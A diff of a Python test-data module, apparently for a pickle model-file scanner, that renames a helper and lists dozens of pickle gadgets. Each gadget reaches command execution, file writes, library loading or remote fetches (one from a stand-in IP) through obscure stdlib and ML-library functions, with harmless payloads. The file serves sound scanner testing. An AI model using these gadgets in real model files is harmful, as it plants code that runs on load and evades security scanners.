@@ -1,5 +1,7 @@
 """Names that a pickle imports: single functions and classes that run, load, write, connect or call back."""
 
+# ruff: noqa: S108 - one technique a line, however long; paths in payloads that nothing runs
+
 from .technique import ECHO, NOWHERE, Raw, Technique, call, name, value, whole
 
 GAME = "promptfoo/modelaudit docs/agents/picklescan-rce-bypass-game.md, turn "
@@ -12,7 +14,7 @@ EITHER = ("001", "002")
 REUSED = ("001", "002", "003")
 
 
-def one(title: str, source: str, rules: tuple[str, ...], *opcodes: bytes) -> Technique:
+def gadget(title: str, source: str, rules: tuple[str, ...], *opcodes: bytes) -> Technique:
     """Return the technique of one pickle."""
     return Technique(title, source, rules, lambda: {"model.pkl": whole(*opcodes)})
 
@@ -20,19 +22,19 @@ def one(title: str, source: str, rules: tuple[str, ...], *opcodes: bytes) -> Tec
 PATH = Raw(name("pathlib", "PosixPath") + value(("/tmp", "lockgate-blind")) + b"R")
 
 TECHNIQUES = [
-    one(
+    gadget(
         "mailcap test command",
         GAME + "1",
         EITHER,
         call("mailcap", "findmatch", {"text/plain": [{"view": "cat %s", "test": ECHO}]}, "text/plain"),
     ),
-    one(
+    gadget(
         "spawn of setuptools' own distutils",
         GAME + "3",
         EITHER,
         call("setuptools._distutils.spawn", "spawn", ["echo", "x"]),
     ),
-    one(
+    gadget(
         "shell pipeline of pipes",
         GAME + "5",
         EITHER,
@@ -44,7 +46,7 @@ TECHNIQUES = [
             "b",
         ),
     ),
-    one(
+    gadget(
         "annotation that is evaluated",
         GAME + "7",
         EITHER,
@@ -56,19 +58,19 @@ TECHNIQUES = [
             None,
         ),
     ),
-    one(
+    gadget(
         "source that dataclasses compile",
         GAME + "9",
         EITHER,
         call("dataclasses", "_create_fn", "x", ["a=print(1)"], ["return a"]),
     ),
-    one(
+    gadget(
         "a call through operator.call",
         GAME + "13",
         RUNS,
         call("operator", "call", name("pathlib", "Path.touch"), PATH),
     ),
-    one(
+    gadget(
         "getter of a cached property",
         GAME + "69",
         EITHER,
@@ -79,7 +81,7 @@ TECHNIQUES = [
             PATH,
         ),
     ),
-    one(
+    gadget(
         "comparison that calls back",
         GAME + "71",
         EITHER,
@@ -90,14 +92,14 @@ TECHNIQUES = [
             1,
         ),
     ),
-    one(
+    gadget(
         "filter of a logger",
         GAME + "73",
         EITHER,
         Raw(name("logging", "Filterer") + b")R\x940"),
         call("logging", "Filterer.filter", Raw(b"h\x00"), PATH),
     ),
-    one(
+    gadget(
         "property that getmembers reads",
         GAME + "75",
         EITHER,
@@ -117,7 +119,7 @@ TECHNIQUES = [
             ),
         ),
     ),
-    one(
+    gadget(
         "file that a lazy class of click opens",
         GAME + "135",
         EITHER,
@@ -128,13 +130,13 @@ TECHNIQUES = [
             call("click.utils", "LazyFile", "/tmp/lockgate-blind.pth", "w"),
         ),
     ),
-    one(
+    gadget(
         "start-up file by io.FileIO",
         GAME + "137",
         RUNS,
         call("io", "FileIO.write", call("io", "FileIO", "/tmp/lockgate-blind.pth", "w"), b"import x\n"),
     ),
-    one(
+    gadget(
         "eval out of the dictionary of builtins",
         GAME + "139",
         ("001", "004"),
@@ -149,88 +151,88 @@ TECHNIQUES = [
             + b"R"
         ),
     ),
-    one("dotted path through site to os", GAME + "141", EITHER, call("site", "os.system", ECHO)),
-    one(
+    gadget("dotted path through site to os", GAME + "141", EITHER, call("site", "os.system", ECHO)),
+    gadget(
         "registry of lazy imports that is overwritten",
         GAME + "201",
         EITHER,
         Raw(name("pydantic", "_dynamic_imports") + value("_os") + value(("pydantic", "random")) + b"s0"),
         call("pydantic", "_os.system", ECHO),
     ),
-    one("module alias inside random", GAME + "203", EITHER, call("random", "_os.system", ECHO)),
-    one(
+    gadget("module alias inside random", GAME + "203", EITHER, call("random", "_os.system", ECHO)),
+    gadget(
         "import as a side effect of an iterator",
         GAME + "205",
         EITHER,
         call("builtins", "list", call("pkgutil", "iter_importers", "lockgate_blind.part")),
     ),
-    one(
+    gadget(
         "connection by OBJ that POP hides",
         FICKLING + "GHSA-mxhj-88fx-4pcv",
         RUNS,
         Raw(b"(" + name("smtplib", "SMTP") + value(NOWHERE) + b"o0N"),
     ),
-    one(
+    gadget(
         "command of uuid",
         FICKLING + "GHSA-5hwf-rc88-82xm",
         EITHER,
         call("uuid", "_get_command_stdout", "echo", "x"),
     ),
-    one(
+    gadget(
         "command of the AIX support",
         FICKLING + "GHSA-5hwf-rc88-82xm",
         EITHER,
         call("_aix_support", "_read_cmd_output", ECHO),
     ),
-    one(
+    gadget(
         "private interpreters",
         FICKLING + "GHSA-6ggj-6f2q-f7mx",
         EITHER,
         call("_interpreters", "exec", call("_interpreters", "create"), "x=1"),
     ),
-    one(
+    gadget(
         "evaluated string in f2py",
         PICKLESCAN + "numpy.f2py getlincoef",
         EITHER,
         call("numpy.f2py.crackfortran", "getlincoef", "1+1", {"a": 1}),
     ),
-    one(
+    gadget(
         "runstring of numpy's tests",
         PICKLESCAN + "numpy.testing",
         EITHER,
         call("numpy.testing._private.utils", "runstring", "x=1", {}),
     ),
-    one(
+    gadget(
         "file written by distutils",
         PICKLESCAN + "distutils.file_util",
         EITHER,
         call("distutils.file_util", "write_file", "/tmp/x", ["y"]),
     ),
-    one(
+    gadget(
         "name look-up that leaks data",
         PICKLESCAN + "ssl",
         RUNS,
         call("ssl", "get_server_certificate", (NOWHERE, 443)),
     ),
-    one(
+    gadget(
         "command behind a mail stream",
         PICKLESCAN + "imaplib.IMAP4_stream",
         RUNS,
         call("imaplib", "IMAP4_stream", ECHO),
     ),
-    one(
+    gadget(
         "pickle that the grammar of lib2to3 loads",
         PICKLESCAN + "lib2to3",
         EITHER,
         call("lib2to3.pgen2.grammar", "Grammar.loads", call("lib2to3.pgen2.grammar", "Grammar"), b"N."),
     ),
-    one(
+    gadget(
         "installer of ensurepip",
         PICKLESCAN + "ensurepip._run_pip",
         EITHER,
         call("ensurepip", "_run_pip", ["install", "lockgate-blind"]),
     ),
-    one(
+    gadget(
         "guards that torch evaluates",
         PICKLESCAN + "torch ShapeEnv.evaluate_guards_expression",
         EITHER,
@@ -242,13 +244,13 @@ TECHNIQUES = [
             [],
         ),
     ),
-    one(
+    gadget(
         "pickle in a pickle by the configuration of torch",
         PICKLESCAN + "torch ConfigModule.load_config",
         EITHER,
         call("torch.utils._config_module", "ConfigModule.load_config", None, b"\x80\x04}."),
     ),
-    one(
+    gadget(
         "remote call of torch",
         "CVE-2024-5480, torch.distributed.rpc",
         EITHER,
@@ -258,97 +260,97 @@ TECHNIQUES = [
             call("torch.distributed.rpc.internal", "PythonUDF", name("os", "getcwd"), (), {}),
         ),
     ),
-    one(
+    gadget(
         "type comment that torch evaluates",
         "CVE-2022-45907, torch.jit.annotations",
         EITHER,
         call("torch.jit.annotations", "parse_type_line", "# type: (int) -> int", None, None),
     ),
-    one(
+    gadget(
         "library that torch loads",
         HIDE + "torch._ops",
         EITHER,
         Raw(name("torch._ops", "_Ops.load_library") + value((None, "/tmp/lockgate-blind.so")) + b"R"),
     ),
-    one(
+    gadget(
         "repository that torch.hub runs",
         HIDE + "torch.hub",
         EITHER,
         call("torch.hub", "load", "lockgate/blind", "model"),
     ),
-    one(
+    gadget(
         "debugger of doctest",
         PICKLESCAN + "doctest.debug_script",
         EITHER,
         call("doctest", "debug_script", "x=1"),
     ),
-    one(
+    gadget(
         "pager of the new prompt",
         PICKLESCAN + "_pyrepl",
         EITHER,
         call("_pyrepl.pager", "pipe_pager", "x", ECHO),
     ),
-    one(
+    gadget(
         "formula that sympy evaluates",
         HIDE + "sympy",
         EITHER,
         call("sympy.parsing.sympy_parser", "parse_expr", "1+1"),
     ),
-    one(
+    gadget(
         "expression that pandas evaluates",
         HIDE + "pandas",
         EITHER,
         call("pandas.core.computation.eval", "eval", "1+1"),
     ),
-    one(
+    gadget(
         "pickle that pandas reads from a URL",
         HIDE + "pandas",
         EITHER,
         call("pandas.io.pickle", "read_pickle", "http://192.0.2.1/a.pkl"),
     ),
-    one(
+    gadget(
         "YAML that makes objects",
         HIDE + "yaml",
         EITHER,
         call("yaml", "unsafe_load", "!!python/object/apply:os.getcwd []"),
     ),
-    one(
+    gadget(
         "library through numpy",
         "picklescan scanner.py, remark on numpy.ctypeslib",
         EITHER,
         call("numpy.ctypeslib", "load_library", "lockgate-blind", "/tmp"),
     ),
-    one(
+    gadget(
         "file written by a plain function of numpy",
         HIDE + "numpy",
         EITHER,
         call("numpy", "savetxt", "/tmp/lockgate-blind", [1, 2]),
     ),
-    one(
+    gadget(
         "memory map that creates a file",
         HIDE + "numpy",
         EITHER,
         call("numpy", "memmap", "/tmp/lockgate-blind", "uint8", "w+", 0, (4,)),
     ),
-    one(
+    gadget(
         "download by scikit-learn's own data sets",
         HIDE + "sklearn",
         EITHER,
         call("sklearn.datasets._openml", "fetch_openml", "iris"),
     ),
-    one(
+    gadget(
         "booster that opens a path",
         HIDE + "lightgbm constructors",
         REUSED,
         call("lightgbm.basic", "Booster", None, None, "/etc/hostname"),
     ),
-    one(
+    gadget(
         "booster of XGBoost that opens a path",
         HIDE + "xgboost constructors",
         REUSED,
         call("xgboost.core", "Booster", None, [], "/etc/hostname"),
     ),
-    one(
+    gadget(
         "function of a transformer that writes files",
         "scikit-learn FunctionTransformer, func and kw_args",
         REUSED,
@@ -366,20 +368,22 @@ TECHNIQUES = [
             + b"b"
         ),
     ),
-    one(
+    gadget(
         "joblib that loads another file",
         HIDE + "joblib.load",
         EITHER,
         call("joblib.numpy_pickle", "load", "/tmp/other.pkl"),
     ),
-    one(
+    gadget(
         "class from a dynamic module",
         HIDE + "transformers",
         EITHER,
         call("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "a.B", "lockgate/blind"),
     ),
-    one("proxy command of paramiko", HIDE + "paramiko", EITHER, call("paramiko.proxy", "ProxyCommand", ECHO)),
-    one(
+    gadget(
+        "proxy command of paramiko", HIDE + "paramiko", EITHER, call("paramiko.proxy", "ProxyCommand", ECHO)
+    ),
+    gadget(
         "entry point of a package",
         HIDE + "importlib.metadata",
         EITHER,
@@ -389,25 +393,25 @@ TECHNIQUES = [
             call("importlib.metadata", "EntryPoint", "a", "os:getcwd", "g"),
         ),
     ),
-    one(
+    gadget(
         "factory of a logging configuration",
         HIDE + "logging.config",
         EITHER,
         call("logging.config", "dictConfig", {"version": 1, "handlers": {"h": {"()": "os.getcwd"}}}),
     ),
-    one(
+    gadget(
         "callback when an object dies",
         HIDE + "weakref",
         EITHER,
         call("weakref", "finalize", name("pathlib", "Path"), name("os", "getcwd")),
     ),
-    one(
+    gadget(
         "archive that is unpacked anywhere",
         HIDE + "shutil",
         RUNS,
         call("shutil", "unpack_archive", "/tmp/a.tar", "/tmp"),
     ),
-    one(
+    gadget(
         "marshalled code and a function type",
         "jasonmiao0511-hue/modelscan-npz-bypass-poc",
         RUNS,
